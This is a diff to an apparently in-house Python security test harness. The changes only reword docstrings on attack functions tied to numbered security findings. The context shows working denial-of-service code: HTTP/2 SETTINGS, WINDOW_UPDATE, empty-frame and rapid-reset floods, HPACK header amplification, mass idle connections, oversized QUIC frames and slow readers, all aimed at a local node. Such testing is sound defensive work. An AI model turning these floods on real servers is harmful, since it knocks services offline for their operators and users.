@@ -61,7 +61,7 @@ _Flood = Callable[[_Target], Awaitable[None]]
 
 
 async def _many(tasks: int, work: Callable[[], Awaitable[None]]) -> None:
-    """Run the same attack on several connections; replace each connection that ends."""
+    """Run the attack `work` on several connections at once; replace each connection that ends."""
 
     async def again() -> None:
         while True:
@@ -81,7 +81,7 @@ async def _many(tasks: int, work: Callable[[], Awaitable[None]]) -> None:
 async def _speak(
     target: _Target, port: int, host: str, send: Callable[[trio.SocketStream], Awaitable[None]]
 ) -> None:
-    """Connect, send data, and read answers until the peer closes."""
+    """Connect to a TCP port, send data, and read answers until the server closes the connection."""
     async with (
         await trio.open_tcp_stream("127.0.0.1", port, local_address=host) as stream,
         trio.open_nursery() as nursery,
@@ -113,7 +113,8 @@ def _call(stream: int, header: bytes) -> bytes:
 
 
 def _plain_header(path: str) -> bytes:
-    """Return a header block that adds no table entries, so that each call can repeat it."""
+    """Return an HPACK header block that adds no entry to the dynamic table, so that each call can
+    repeat it."""
     fields = ((b":path", path.encode()), (b"content-type", b"application/grpc"))
     block = b"\x83\x86"  # `:method: POST` and `:scheme: http`
     for name, value in fields:
@@ -122,7 +123,7 @@ def _plain_header(path: str) -> bytes:
 
 
 async def _watches(target: _Target) -> None:
-    """Attack P3: health watches without a token, on five connections."""
+    """Attack of security finding P3: gRPC health watches without a token, on five connections."""
     header = _plain_header(_WATCH)
 
     async def send(stream: trio.SocketStream) -> None:
@@ -136,7 +137,8 @@ async def _watches(target: _Target) -> None:
 
 
 async def _cached_headers(target: _Target) -> None:
-    """Attack P5: an indexed header field of 4 kB, and requests that reference it many times."""
+    """Attack of security finding P5: an indexed header field of 4 kB that requests reference many
+    times."""
     indexed = b"\x83\x86\x84\x40\x0dauthorization\x7f" + b"\xa1\x1e" + 4000 * b"v"
     repeated = b"\x83\x86\x84" + 3 * b"\xbe"
 
@@ -155,7 +157,8 @@ async def _cached_headers(target: _Target) -> None:
 
 
 async def _frames(target: _Target, flood: bytes, each: int, streams: int) -> None:
-    """Open streams with a window of 0 for answers, then send the same frames repeatedly."""
+    """Open HTTP/2 streams with a window of 0 for answers, then send the frames in `flood`
+    repeatedly."""
     none = frame(Kind.SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
     header = _plain_header(_HEALTH)
     first = _PREFACE + none + b"".join([_call(2 * n + 1, header) for n in range(streams)])
@@ -170,19 +173,21 @@ async def _frames(target: _Target, flood: bytes, each: int, streams: int) -> Non
 
 
 async def _settings(target: _Target) -> None:
-    """Attack P6: frames that each change the initial window 2730 times, with 990 streams open."""
+    """Attack of security finding P6: each SETTINGS frame changes the initial window 2730 times,
+    with 990 streams open."""
     values = b"".join([struct.pack(">HI", 4, each % 2) for each in range(2730)])
     await _frames(target, 20 * frame(Kind.SETTINGS, 0, 0, values), 20, 990)
 
 
 async def _updates(target: _Target) -> None:
-    """Attack P6: frames that update the connection's window, with 990 streams open."""
+    """Attack of security finding P6: WINDOW_UPDATE frames for the connection, with 990 streams
+    open."""
     update = frame(Kind.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
     await _frames(target, 1000 * update, 1000, 990)
 
 
 async def _empty_frames(target: _Target) -> None:
-    """Attack P6: empty DATA frames."""
+    """Attack of security finding P6: empty DATA frames."""
     first = frame(Kind.HEADERS, 4, 1, _plain_header(_HEALTH))
     empty = 1000 * frame(Kind.DATA, 0, 1, b"")
 
@@ -196,7 +201,7 @@ async def _empty_frames(target: _Target) -> None:
 
 
 async def _resets(target: _Target) -> None:
-    """Attack P6: calls that the client resets immediately."""
+    """Attack of security finding P6: gRPC calls that the client resets immediately."""
     header = _plain_header(_HEALTH)
 
     async def send(stream: trio.SocketStream) -> None:
@@ -213,8 +218,8 @@ async def _resets(target: _Target) -> None:
 
 
 async def _connections(target: _Target) -> None:
-    """Attack P7: 3000 connections from one address that only send the HTTP/2 preface and stay
-    open."""
+    """Attack of security finding P7: 3000 connections from one address that send only the HTTP/2
+    preface."""
 
     async def send(stream: trio.SocketStream) -> None:
         await stream.send_all(_PREFACE)
@@ -275,7 +280,8 @@ async def _over_quic(
     work: Callable[[TrioUdp, _Caller, int], Awaitable[None]],
     settings: Settings | None = None,
 ) -> None:
-    """Run the same attack on several QUIC connections; `work` receives the node's port."""
+    """Run the attack `work` on several QUIC connections at once; replace each connection that
+    ends."""
     ca = target.keys / "ca.pem"
     tls = load_client_tls(ca, datetime.now(UTC)) if ca.exists() else ClientTls(verify=False)
     transport = TrioUdp((_HOST, 0), on_bug=print, client=tls, settings=settings)
@@ -301,7 +307,8 @@ def _hello(target: _Target, session: int) -> bytes:
 
 
 async def _large_hellos(target: _Target) -> None:
-    """Attack P4: before any `Hello`, a frame of a million empty maps, on 16 connections."""
+    """Attack of security finding P4: a frame of a million empty maps before any `Hello`, on 16
+    connections."""
 
     async def work(transport: TrioUdp, caller: _Caller, number: int) -> None:
         caller.send(transport, _MAPS)
@@ -314,7 +321,7 @@ async def _large_hellos(target: _Target) -> None:
 async def _asking(
     target: _Target, tasks: int, in_flight: int, make: Callable[[int], bytes]
 ) -> None:
-    """Send requests on several connections, with a few requests in flight on each."""
+    """Send requests to nodes on several QUIC connections, with a few requests in flight on each."""
     order = count(1)
 
     async def work(transport: TrioUdp, caller: _Caller, number: int) -> None:
@@ -336,7 +343,8 @@ _LARGEST = Limit.of_ns(_MANY, 3600 * NS_PER_SECOND, slots=MAX_CARRIED_SLOTS)
 
 
 async def _carried_limits(target: _Target) -> None:
-    """Attack P8: new keys in each request, with limits of 3600 slots and of the maximum."""
+    """Attack of security finding P8: requests with new keys, and with limits whose counters are as
+    large as possible."""
 
     def make(seq: int) -> bytes:
         keys = [b"attack%d-%d" % (seq, number) for number in range(_CARRIED_ROWS)]
@@ -356,7 +364,8 @@ def _request(
 
 
 async def _takeovers(target: _Target) -> None:
-    """Attack P9: checks of keys of all owners, sent as if to a standby, with a deadline of 1 ms."""
+    """Attack of security finding P9: checks that ask one node to decide all keys as the standby,
+    with a deadline of 1 ms."""
     limit = Limit.of_ns(1_000_000, 60 * NS_PER_SECOND)
 
     def make(seq: int) -> bytes:
@@ -367,7 +376,8 @@ async def _takeovers(target: _Target) -> None:
 
 
 async def _slow_readers(target: _Target) -> None:
-    """Attack P14: 150 connections that request the rules and do not read the answers."""
+    """Attack of security finding P14: 150 connections that request the rules and do not read the
+    answers."""
 
     async def work(transport: TrioUdp, caller: _Caller, number: int) -> None:
         caller.send(transport, _hello(target, 1000 + number))
